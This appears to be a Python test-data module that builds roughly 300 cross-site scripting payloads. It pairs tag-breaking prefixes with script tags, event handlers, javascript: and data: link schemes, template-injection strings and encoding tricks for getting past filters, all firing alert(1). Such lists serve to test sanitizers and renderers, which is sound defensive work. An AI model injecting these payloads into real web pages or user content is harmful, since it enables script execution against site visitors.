"""Texts that try to become script: 300 of them, each at most 90 characters."""

from __future__ import annotations

from itertools import product

_BREAKS = ("", '">', "'>", "</title>", "</script>", "-->", "]]>")
_ELEMENTS = (
    "<script>alert(1)</script>", "<ScRiPt >alert(1)</sCrIpT>", "<script/x>alert(1)</script >", "<script>alert(1)",
    "<img src=../images/p.svg alt=a onload=alert(1)>", "<img/onload=alert(1) src=../images/p.svg alt=a>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<body onload=alert(1)>", "<body/onpageshow=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=javascript:parent.alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit autofocus>", "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<style onload=alert(1)></style>", "<style>@import 'x';</style>",
    "<link rel=stylesheet href=x onerror=alert(1)>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<p style=animation-name:x onanimationstart=alert(1)>", "<a href=javascript:alert(1) autofocus onfocus=alert(1)>a",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "java&Tab;script:alert(1)",
    "&#x01;javascript:alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "javascript&colon;x",
)  # fmt: skip
_LINKS = (
    "[a]({})",
    "<a href='{}'>a</a>",
    "<{}>",
    "[a](<{}>)",
    "<a href={} target=_blank>a</a>",
    "<svg><a xlink:href='{}'>a</a>",
)
_OTHERS = (
    "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "`;alert(1)//", "${alert(1)}", "{{7*7}}{% raw %}",
    "{{constructor.constructor('alert(1)')()}}", "<!--<script>alert(1)//", "<![CDATA[<script>alert(1)</script>]]>",
    "{onclick=alert(1)}", "*a*{: onmouseover=alert(1) }", "## a {onclick=alert(1) id=location}",
    "&lt;script&gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\uff1cscript\uff1ealert(1)", "<scr<script>ipt>alert(1)</script>",
    "\u2028alert(1)\u2029", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<?php alert(1) ?>", '{"@type":"x"}</script><script>alert(1)</script>',
)  # fmt: skip

VECTORS = (
    *(broken + element for element, broken in product(_ELEMENTS, _BREAKS)),
    *(link.format(scheme) for scheme, link in product(_SCHEMES, _LINKS)),
    *_OTHERS,
)
